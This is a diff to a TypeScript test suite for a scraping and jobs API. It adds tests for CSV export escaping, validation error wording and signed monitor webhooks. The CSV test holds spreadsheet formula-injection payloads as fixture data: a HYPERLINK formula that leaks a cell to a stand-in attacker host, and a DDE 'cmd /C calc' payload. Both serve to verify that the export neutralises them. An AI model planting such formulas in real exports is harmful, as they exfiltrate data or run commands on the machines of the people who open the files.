@@ -86,6 +86,21 @@ test('a scrape_metadata job runs every item once; paged JSON, JSONL and CSV hold
   }
 })
 
+// Tried as an attacker would: a page title "=HYPERLINK(…)" went into the CSV export as is, and a spreadsheet
+// opening the export runs it as a formula (OWASP CSV injection).
+test('the CSV export neutralises cells that a spreadsheet would run as formulas; result_json stays exact', async () => {
+  const r = await postJson(`${svc.url}/v1/jobs`, { operation: 'scrape_metadata', items: [{ url: 'http://shop.example.com/formula', fields: ['title', 'description'] }, { url: 'http://shop.example.com/p/1', fields: ['title', 'description'] }] }, key)
+  assert.equal(r.status, 202, r.text)
+  await waitForJob(svc.url, r.json.data.id, key)
+  const csv = await (await fetch(`${svc.url}/v1/jobs/${r.json.data.id}/results?format=csv`, { headers: key })).text()
+  const rows = parse(csv, { columns: true }) as Record<string, string>[]
+  assert.equal(rows[0].title, `'=HYPERLINK("http://evil.example/?"&A1,"Click")`)
+  assert.equal(rows[0].description, `'@SUM(1+1)*cmd|' /C calc'!A0`)
+  assert.equal(JSON.parse(rows[0].result_json).title, '=HYPERLINK("http://evil.example/?"&A1,"Click")')
+  assert.equal(rows[1].title, 'Page 1')
+  for (const row of rows) for (const [k, v] of Object.entries(row)) if (k !== 'result_json') assert.doesNotMatch(v, /^[=+\-@\t\r]/, k)
+})
+
 test('bad items refuse the whole job, naming each bad index; limits and unknown operations too', async () => {
   const r = await postJson(`${svc.url}/v1/jobs`, { operation: 'scrape_metadata', items: ['http://shop.example.com/p/1', 'ftp://x.example/', { fields: ['title'] }, 'http://shop.example.com/p/2', 42] }, key)
   assert.equal(r.status, 400, r.text)
@@ -93,6 +108,11 @@ test('bad items refuse the whole job, naming each bad index; limits and unknown 
   assert.equal(r.json.error.code, 'invalid_request')
   assert.deepEqual(r.json.error.details.fields.map((f: any) => f.index), [1, 2, 4])
   assert.equal(r.json.error.details.invalid_items, 3)
+  // Tried as a user would: items' problems read "Expected required property" while the same mistake in a
+  // synchronous call reads "body.url is required". The same sentences, the field under items.N.
+  assert.deepEqual(r.json.error.details.fields.slice(1).map((f: any) => [f.field, f.problem]), [['items.2.url', 'is required'], ['items.4', 'must be an object']])
+  const shapes = await postJson(`${svc.url}/v1/jobs`, { operation: 'similarity_score', items: [{ source: 'a', target: 'b', type: 'html' }, { source: '', target: 'b', type: 'text' }] }, key)
+  assert.deepEqual(shapes.json.error.details.fields.map((f: any) => [f.field, f.problem]), [['items.0.type', 'must be one of: url, text'], ['items.1.source', 'must not be empty']])
   const many = await postJson(`${svc.url}/v1/jobs`, { operation: 'scrape_metadata', items: Array.from({ length: 401 }, (_, i) => `http://shop.example.com/p/${i}`) }, key)
   assert.equal(many.status, 400)
   assert.match(many.json.error.message, /at most 400/)
@@ -198,6 +218,36 @@ test('webhooks: signed per Standard Webhooks; a receiver failing twice gets the 
 
   // A wrong secret does not verify (the check can fail).
   assert.throws(() => new Webhook('whsec_' + Buffer.alloc(32, 1).toString('base64')).verify(completed.body, { 'webhook-id': completed.id, 'webhook-timestamp': completed.ts, 'webhook-signature': completed.sig }))
+})
+
+// Tried as a user would: an account whose first webhook was a monitor's (its job had none) got monitor.changed
+// messages without a webhook-signature header: nothing to verify them with. A monitor with a webhook now makes sure
+// of the account's secret (returned once, as for jobs), and no message is ever sent unsigned.
+test('a monitor webhook on an account without a secret creates one (shown once); monitor.changed is signed with it', async () => {
+  const fresh = { 'x-api-key': (await svc.newKey({ rateLimitPerMinute: 100_000 })).apiKey }
+  const r = await postJson(`${svc.url}/v1/jobs`, { operation: 'scrape_metadata', items: ['http://shop.example.com/p/301'] }, fresh)
+  const jobId = r.json.data.id
+  assert.equal(r.json.data.webhook_secret, undefined)
+  assert.equal((await waitForJob(svc.url, jobId, fresh)).counts.succeeded, 1)
+  pages.down.add('/p/301')
+  try {
+    const m = await postJson(`${svc.url}/v1/monitors`, { job_id: jobId, schedule: '*/1 * * * * *', webhook: { url: 'http://hooks.example.com/monitor-fresh' } }, fresh)
+    assert.equal(m.status, 201, m.text)
+    const secret = m.json.data.webhook_secret as string
+    assert.match(secret, /^whsec_/)
+    let changed: typeof received[number] | undefined
+    for (let i = 0; i < 150 && !changed; i++) {
+      changed = received.find((x) => { const b = JSON.parse(x.body); return b.type === 'monitor.changed' && b.data.monitor_id === m.json.data.id })
+      if (!changed) await new Promise((res) => setTimeout(res, 100))
+    }
+    assert.ok(changed, 'monitor.changed delivered')
+    assert.match(changed.sig, /^v1,/)
+    const payload = new Webhook(secret).verify(changed.body, { 'webhook-id': changed.id, 'webhook-timestamp': changed.ts, 'webhook-signature': changed.sig }) as any
+    assert.equal(payload.data.items_changed, 1)
+    const again = await postJson(`${svc.url}/v1/monitors`, { job_id: jobId, schedule: '0 6 1 * *', webhook: { url: 'http://hooks.example.com/monitor-fresh' } }, fresh)
+    assert.equal(again.json.data.webhook_secret, undefined, 'shown once')
+    for (const id of [m.json.data.id, again.json.data.id]) await fetch(`${svc.url}/v1/monitors/${id}`, { method: 'DELETE', headers: fresh })
+  } finally { pages.down.delete('/p/301') }
 })
 
 test('monitors: a finished job re-run on a cron schedule; monitor.changed names the site that went from pass to fail', async () => {
